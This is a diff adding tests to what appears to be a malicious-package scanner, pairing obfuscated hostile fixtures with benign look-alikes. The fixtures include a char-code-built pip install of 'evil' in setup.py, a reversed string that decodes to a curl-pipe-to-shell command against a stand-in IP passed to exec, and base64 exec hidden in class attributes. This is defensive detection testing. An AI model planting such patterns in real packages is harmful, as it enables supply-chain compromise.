@@ -176,3 +176,65 @@ def test_lambdas_called_in_place_on_ordinary_values_stay_quiet(tmp_path):
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- strings built from char codes
+def test_pip_spelled_with_map_of_chr_pulls_a_package_at_install(tmp_path):
+    """The typosquat campaign's setup.py: every name built by map(chr) over integers, chr
+    itself fetched with getattr from the builtins, then pip.main at install time."""
+    files = {
+        "setup.py": (
+            "from setuptools import setup\n"
+            "c = getattr(__builtins__, 'c' + 'h' + 'r')\n"
+            "x = ''.join(map(c, [112 + 0, 105, 112]))\n"
+            "y = __import__(x)\n"
+            "y.main(['install', ''.join(map(c, [101, 118, 105, 108]))])\n"
+            "setup(name='pkg', version='1.0')\n"
+        )
+    }
+    assert_high_with("map(chr) pip", scan(files, tmp_path), {"place.dependency_pull"})
+
+
+def test_text_reversed_by_reversed_and_joined_is_decoded_before_exec(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "exec(''.join(reversed(\")'hs|x/3.2.0.291//:ptth lruc'(metsys.so;so tropmi\")))\n"
+        )
+    }
+    assert_high_with("reversed join", scan(files, tmp_path), {"chain.decode_exec"})
+
+
+def test_char_codes_and_reversed_text_of_ordinary_code_stay_quiet(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "LETTERS = ''.join(map(chr, [65, 66, 67, 68]))\n"
+            "def is_palindrome(word):\n    return word == ''.join(reversed(word))\n"
+            "MIRROR = ''.join(reversed('abc'))\n"
+        )
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- payloads kept in a class
+def test_a_payload_and_its_runner_kept_as_class_attributes_is_decode_exec(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import base64\n\n\nclass _Cfg:\n"
+            f"    data = {B64_ID}\n    runner = exec\n\n\n"
+            "_Cfg.runner(base64.b64decode(_Cfg.data))\n"
+        )
+    }
+    assert_high_with("class attributes", scan(files, tmp_path), {"chain.decode_exec"})
+
+
+def test_settings_kept_as_class_attributes_stay_quiet(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import requests\n\n\nclass Config:\n"
+            "    URL = 'https://api.example.invalid/v1'\n    log = print\n\n\n"
+            "def ping():\n    Config.log('ping')\n    return requests.get(Config.URL).ok\n"
+        )
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
